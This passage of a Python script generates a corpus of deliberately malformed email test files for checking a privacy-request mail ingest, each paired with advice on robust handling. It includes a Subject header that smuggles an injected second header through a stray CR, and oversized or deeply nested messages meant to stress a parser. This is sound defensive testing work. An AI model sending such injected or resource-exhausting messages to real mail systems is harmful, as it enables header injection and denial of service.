    "line_endings_lf.eml",
    "bare LF line endings (Unix mbox/maildir style)",
    "Store; same parsed result as the CRLF file (hash differs, so a distinct raw message).",
    subject="Regeleinden",
    text="telefoonnummer",
)
def _() -> bytes:
    return _nl_case(b"\n", 44)


@case(
    "line_endings_cr_only.eml",
    "bare CR line endings only (classic Mac)",
    "Store; stdlib splits on CR too; same parsed result as the CRLF file.",
    subject="Regeleinden",
    text="telefoonnummer",
)
def _() -> bytes:
    return _nl_case(b"\r", 45)


@case(
    "line_endings_mixed.eml",
    "CRLF headers, LF body, a stray CR in the Subject and a CR-only blank separator",
    "Store; normalise, record a defect; must not split headers at the stray CR.",
    subject="Gemengd",
    text="gemengde",
)
def _() -> bytes:
    return (
        b"From: Sanne Bakker <sanne.bakker@example.nl>\r\n"
        b"To: privacy@nhmbsoftware.nl\r\n"
        b"Subject: Gemengd\rX-Injected: yes\r\n"
        b"Date: Mon, 16 Nov 2026 09:14:03 +0100\r\n"
        b"Message-ID: <hostile-046.20261125@example.nl>\r\n"
        b"Content-Type: text/plain; charset=utf-8\r\n"
        b"\r"
        b"Een bericht met gemengde regeleinden.\nTweede regel\r\n"
    )


@case(
    "long_line_100k_no_newline.eml",
    "one body line of 100,000 characters and no newline at end of file",
    "Store; never assume line length limits (RFC 5322 998) or a final newline.",
    subject="Lange",
    text="lange",
)
def _() -> bytes:
    line = ("lange regel " * 10_000)[:100_000]
    return eml(*std("Lange regel", n=47), *plain(), "", line, final_nl=False)


# --------------------------------------------------------------------------- not really mail


@case(
    "empty_file.eml",
    "0 bytes",
    "Quarantine with reason 'empty message' (stdlib returns an empty Message, no error).",
    ingest=QUARANTINE,
    no_message_id=True,
)
def _() -> bytes:
    return b""


@case(
    "headers_only_no_body.eml",
    "only headers, no blank separator line and no body",
    "Store; empty body, classify on subject; record a defect.",
    subject="Inzageverzoek",
)
def _() -> bytes:
    return eml(*std("Inzageverzoek zonder tekst", n=49), *plain(), final_nl=False)


@case(
    "body_only_no_headers.eml",
    "message body only; no header lines at all (first line has no colon)",
    "Store; no sender/subject -> needs review, derive ID from hash; never auto-reply.",
    text="inzage",
    no_message_id=True,
)
def _() -> bytes:
    return eml(
        "Beste heer of mevrouw",
        "",
        "Ik wil graag inzage in alles wat jullie over mij hebben.",
        "Groet, Kees",
    )


@case(
    "binary_garbage.eml",
    "4096 random bytes (random.Random(20261125 + 51)), not a message at all",
    "Quarantine with reason 'no headers / not RFC 5322' (stdlib still returns a Message).",
    ingest=QUARANTINE,
    no_message_id=True,
)
def _() -> bytes:
    data = bytearray(random.Random(SEED + 51).randbytes(4096))
    # make sure no accidental "Name:" header is formed on the first line
    data[0] = 0xFF
    return bytes(data)


@case(
    "utf8_bom_at_start.eml",
    "UTF-8 BOM (EF BB BF) before 'From:'; stdlib then sees no headers at all",
    "Store; strip a leading BOM before parsing (re-parse), record a defect. Has no "
    "Message-ID on purpose, so the expectation holds with or without BOM stripping.",
    text="wissen",
    no_message_id=True,
)
def _() -> bytes:
    return b"\xef\xbb\xbf" + eml(
        *std("Verzoek tot wissen", n=52, msgid=None),
        *plain(),
        "",
        "Ik wil dat u mijn gegevens gaat wissen.",
    )


@case(
    "mbox_from_line_prefix.eml",
    "file starts with an mbox 'From sender date' separator line and has a '>From ' quoted body line",
    "Store; drop a leading mbox From_ line (stdlib records it as unixfrom).",
    subject="mbox",
    text="overdraagbaarheid",
)
def _() -> bytes:
    return eml(
        "From sanne.bakker@example.nl Mon Nov 16 09:14:03 2026",
        *std("Uit een mbox", n=53),
        *plain(),
        "",
        "Verzoek tot overdraagbaarheid.",
        ">From the archive.",
    )


# --------------------------------------------------------------------------- large (not committed)


def _write(path: Path, chunks: Iterable[bytes]) -> Path:
    with path.open("wb") as fh:
        for chunk in chunks:
            fh.write(chunk)
    return path


def _large_1000_parts() -> Iterable[bytes]:
    yield eml(*std("1000 delen", n=901), 'Content-Type: multipart/mixed; boundary="p1000"', "")
    for i in range(1000):
        yield eml("--p1000", *plain("us-ascii", "7bit"), "", f"deel {i:04d} privacyverzoek")
    yield b"--p1000--\n"


def _large_nested_60() -> Iterable[bytes]:
    depth = 60
    yield eml(*std("60 niveaus diep", n=902), 'Content-Type: multipart/mixed; boundary="n00"', "")
    for d in range(1, depth):
        yield eml(f"--n{d - 1:02d}", f'Content-Type: multipart/mixed; boundary="n{d:02d}"', "")
    yield eml(f"--n{depth - 1:02d}", *plain("us-ascii", "7bit"), "", "diep verstopt verzoek")
    for d in range(depth - 1, -1, -1):
        yield f"--n{d:02d}--\n".encode("ascii")


def _large_header_folded() -> Iterable[bytes]:
    ids = [f" <thread-{i:06d}.{SEED}@example.org>" for i in range(5_800)]
    refs = "References:" + "\n".join(ids)  # ~200 KB, folded one id per line
    yield eml(*std("Lange References", n=903, extra=[refs]), *plain(), "", "inzage")


def _large_header_one_line() -> Iterable[bytes]:
    value = ("x" * 63 + " ") * 3_200  # 204,800 bytes on a single physical line
    yield eml(*std("Lange kopregel", n=904, extra=["X-Huge: " + value]), *plain(), "", "inzage")


def _large_30mb() -> Iterable[bytes]:
    payload = random.Random(SEED + 905).randbytes(23_000_000)  # base64 -> ~31.1 MB
    yield eml(
        *std("Grote bijlage", n=905),
        'Content-Type: multipart/mixed; boundary="big"',
        "",
        "--big",
        *plain(),
        "",
        "Bijgaand een scan van mijn dossier.",
        "--big",
        'Content-Type: application/pdf; name="scan.pdf"',
        'Content-Disposition: attachment; filename="scan.pdf"',
        "Content-Transfer-Encoding: base64",
        "",
    )
    enc = base64.encodebytes(payload)  # 76-char lines with \n
    for i in range(0, len(enc), 1 << 20):
        yield enc[i : i + (1 << 20)]
    yield b"--big--\n"


def _large_20000_lines() -> Iterable[bytes]:
    yield eml(*std("20000 regels", n=906), *plain(), "")
    for i in range(1, 20_001):
        yield f"regel {i:05d}\n".encode("ascii")
    yield b"einde: verzoek tot wissen\n"


LARGE_BUILDERS: list[tuple[str, Callable[[], Iterable[bytes]]]] = [
    ("large_1000_parts.eml", _large_1000_parts),
    ("large_nested_60_deep.eml", _large_nested_60),
    ("large_header_200k_folded.eml", _large_header_folded),
    ("large_header_200k_single_line.eml", _large_header_one_line),
    ("large_30mb_base64_attachment.eml", _large_30mb),
    ("large_20000_lines.eml", _large_20000_lines),
]

LARGE_CASES: list[dict[str, object]] = [
    {
        "file": "large_1000_parts.eml",
        "hostile": "multipart/mixed with 1,000 text parts",
        "ingest": STORE,
        "advice": "Store; cap parts processed (e.g. 100), record a defect.",
        "expect_subject_contains": "1000",
        "expect_text_contains": "deel 0000",
        "expect_no_message_id": False,
    },
    {
        "file": "large_nested_60_deep.eml",
        "hostile": "multipart nested 60 levels deep",
        "ingest": STORE,
        "advice": "Store; cap nesting depth (e.g. 10) before walking, no recursion limits hit.",
        "expect_subject_contains": "niveaus",
        "expect_text_contains": None,  # a depth cap rightly hides the innermost text
        "expect_no_message_id": False,
    },
    {
        "file": "large_header_200k_folded.eml",
        "hostile": "one References header of ~200 KB (5,800 folded ids)",
        "ingest": STORE,
        "advice": "Store; cap header size used for threading (last N ids).",
        "expect_subject_contains": "References",
        "expect_text_contains": "inzage",
        "expect_no_message_id": False,
    },
    {
        "file": "large_header_200k_single_line.eml",
        "hostile": "one X-Huge header of 204,800 bytes on a single unfolded line",
        "ingest": STORE,
        "advice": "Store; do not copy huge headers into the DB/logs.",
        "expect_subject_contains": "kopregel",
        "expect_text_contains": "inzage",
        "expect_no_message_id": False,
    },
    {
        "file": "large_30mb_base64_attachment.eml",
        "hostile": "~31 MB message: 23 MB random bytes as a base64 application/pdf attachment",
        "ingest": STORE,
        "advice": "Check "
        "RFC822.SIZE first; over the limit store a header-only stub, never decode in memory "
        "twice.",
        "expect_subject_contains": "bijlage",
        "expect_text_contains": "dossier",
        "expect_no_message_id": False,
    },
    {
        "file": "large_20000_lines.eml",
        "hostile": "text/plain body of 20,001 short lines",
        "ingest": STORE,
        "advice": "Store; cap text length fed to the classifier.",
        "expect_subject_contains": "regels",
        "expect_text_contains": "regel 20000",
        "expect_no_message_id": False,
    },
]


def generate_large(dir: Path) -> list[Path]:
    """Write the large hostile messages into ``dir``; return their paths in a fixed order.

    Deterministic (fixed seeds). Total size is about 32 MB, dominated by the 30 MB case.
    """
    dir = Path(dir)
    dir.mkdir(parents=True, exist_ok=True)
    return [_write(dir / name, build()) for name, build in LARGE_BUILDERS]


# --------------------------------------------------------------------------- verification


def _raw_header_str(value: object) -> str:
    s = str(value) if not isinstance(value, str) else value
    return s.encode("ascii", "surrogateescape").decode("utf-8", "replace")


def _decode_words(value: str) -> str:
    try:
        pieces = email.header.decode_header(value)
    except Exception:
        return value
    out = []
    for chunk, cs in pieces:
        if isinstance(chunk, str):
            out.append(chunk)
            continue
        try:
            out.append(chunk.decode(cs or "utf-8", "replace"))
        except LookupError:
            out.append(chunk.decode("latin-1"))
    return "".join(out)


def sane_decode(data: bytes) -> tuple[str, str]:
    """(subject, text) as a plain, lenient decoder would see them. Used to keep expectations
    honest: compat32 parser, declared charset with errors='replace', latin-1 for unknown
    charsets, crude HTML-to-text, unsplittable multipart treated as text."""
    msg = email.message_from_bytes(data, policy=email.policy.compat32)
    subject = ""
    for name, value in msg.raw_items():
        if name.lower() == "subject":
            subject = _decode_words(_raw_header_str(value))
            break
    texts = []
    for part in msg.walk():
        if part.is_multipart():
            continue
        if part.get_content_maintype() not in ("text", "multipart"):
            continue
        payload = part.get_payload(decode=True)
        if not isinstance(payload, bytes):
            continue
        cs = part.get_content_charset() or "us-ascii"
        try:
            txt = payload.decode(cs, "replace")
        except LookupError:
            txt = payload.decode("latin-1")
        if part.get_content_subtype() == "html":
            txt = re.sub(r"(?is)<(script|style)\b.*?</\1>|<!--.*?-->", " ", txt)
            txt = html.unescape(re.sub(r"<[^>]*>", " ", txt))
        texts.append(txt)
    return subject, "\n".join(texts)


def _exc(e: BaseException) -> str:
    return f"{type(e).__name__}: {str(e)[:80]}"


def observe(data: bytes) -> dict[str, str]:
    """What CPython's email package does with these bytes, as a hint for implementers."""
    result: dict[str, str] = {}
    # compat32
    try:
        msg = email.message_from_bytes(data, policy=email.policy.compat32)
        defects = sorted({type(d).__name__ for p in msg.walk() for d in p.defects})
        for p in msg.walk():
            if not p.is_multipart():
                p.get_payload(decode=True)
        n = sum(1 for _ in msg.walk())
        result["compat32"] = f"parsed, {n} part(s); defects: {', '.join(defects) or 'none'}"
    except Exception as e:  # pragma: no cover - recorded, not raised
        result["compat32"] = "raised " + _exc(e)
    # policy.default: parsing is lazy, errors surface on header access and get_content()
    try:
        msg = email.message_from_bytes(data, policy=email.policy.default)
    except Exception as e:
        result["default"] = "parse raised " + _exc(e)
        return result
    problems: list[str] = []
    hdr_defects: set[str] = set()
    for part in msg.walk():
        for name in list(part.keys()):
            try:
                for v in part.get_all(name, []):
                    str(v)
                    hdr_defects.update(type(d).__name__ for d in getattr(v, "defects", ()))
            except Exception as e:
                problems.append(f"header {name}: {_exc(e)}")
        if not part.is_multipart():
            try:
                part.get_content()
            except Exception as e:
                problems.append(f"get_content({part.get_content_type()}): {_exc(e)}")
    try:
        msg.as_bytes(policy=email.policy.SMTP)
    except Exception as e:
        problems.append(f"as_bytes(SMTP): {_exc(e)}")
    try:
        msg.get_body(preferencelist=("plain", "html"))
    except Exception as e:
        problems.append(f"get_body: {_exc(e)}")
    msg_defects = sorted({type(d).__name__ for p in msg.walk() for d in p.defects})
    summary = "raised on access: " + "; ".join(dict.fromkeys(problems)) if problems else "no errors"
    summary += f"; message defects: {', '.join(msg_defects) or 'none'}"
    if hdr_defects:
        summary += f"; header defects: {', '.join(sorted(hdr_defects))}"
    result["default"] = summary
    return result


def manifest_entries() -> list[dict[str, object]]:
    entries = []
    for c in CASES:
        data = c.build()
        obs = observe(data)
        entries.append(
            {
                "file": c.file,
                "hostile": c.hostile,
                "ingest": c.ingest,
                "advice": c.advice,
                "expect_subject_contains": c.subject,
                "expect_text_contains": c.text,
                "expect_no_message_id": c.no_message_id,
                "size": len(data),
                "observed_py311_compat32": obs["compat32"],
                "observed_py311_policy_default": obs["default"],
            }
        )
    return entries


def check_case(c: Case, data: bytes) -> list[str]:
    errors = []
    subject, text = sane_decode(data)
    if c.subject and c.subject.lower() not in subject.lower():
        errors.append(f"{c.file}: subject {subject[:60]!r} lacks {c.subject!r}")
    if c.text and c.text.lower() not in text.lower():
        errors.append(f"{c.file}: text lacks {c.text!r}")
    has_id = any(
        n.lower() == "message-id"
        for n, _ in email.message_from_bytes(data, policy=email.policy.compat32).raw_items()
    )
    if c.no_message_id == has_id:
        errors.append(f"{c.file}: expect_no_message_id={c.no_message_id}, header={has_id}")
    return errors


def write_manifest_md(entries: list[dict[str, object]]) -> str:
    out = [
        "# Hostile mail corpus",
        "",
        "Generated by `make_hostile.py` (do not edit by hand; edit the generator and re-run).",
        "Machine-readable twin: `manifest.json` (with the stdlib parser's observed behaviour).",
        "`store` = a robust ingest stores the raw bytes and processes the message with the",
        "defects noted; `quarantine` = candidate for quarantine with a reason (raw bytes kept).",
        "",
        "| file | hostile | ingest | what a robust ingest should do |",
        "|---|---|---|---|",
    ]

    def cell(s: object) -> str:
        return str(s).replace("|", "\\|")

    for e in entries:
        out.append(f"| {e['file']} | {cell(e['hostile'])} | {e['ingest']} | {cell(e['advice'])} |")
    out += [
        "",
        "## Large cases (not committed; `generate_large(dir)` writes them)",
        "",
        "| file | hostile | ingest | what a robust ingest should do |",
        "|---|---|---|---|",
    ]
    for e in LARGE_CASES:
        out.append(f"| {e['file']} | {cell(e['hostile'])} | {e['ingest']} | {cell(e['advice'])} |")
    return "\n".join(out) + "\n"


def main(argv: list[str]) -> int:
    if len(argv) >= 2 and argv[0] == "--large":
        for p in generate_large(Path(argv[1])):
            print(p, p.stat().st_size)
        return 0
    check_only = "--check" in argv
    errors: list[str] = []
    names = [c.file for c in CASES]
    assert len(names) == len(set(names)), "duplicate file names"
    for c in CASES:
        data = c.build()
        path = HERE / c.file
        if check_only:
            if not path.exists() or path.read_bytes() != data:
                errors.append(f"{c.file}: committed bytes differ from generator")
        else:
            path.write_bytes(data)
        errors += check_case(c, data)
    entries = manifest_entries()
    manifest = json.dumps(entries, indent=2, ensure_ascii=False) + "\n"
    md = write_manifest_md(entries)
    if check_only:
        if (HERE / "manifest.json").read_text("utf-8") != manifest:
            errors.append("manifest.json is stale")
        if (HERE / "MANIFEST.md").read_text("utf-8") != md:
            errors.append("MANIFEST.md is stale")
    else:
        (HERE / "manifest.json").write_text(manifest, "utf-8")
        (HERE / "MANIFEST.md").write_text(md, "utf-8")
    for e in errors:
        print("ERROR", e, file=sys.stderr)
    print(f"{len(CASES)} cases, {len(errors)} errors")
    return 1 if errors else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
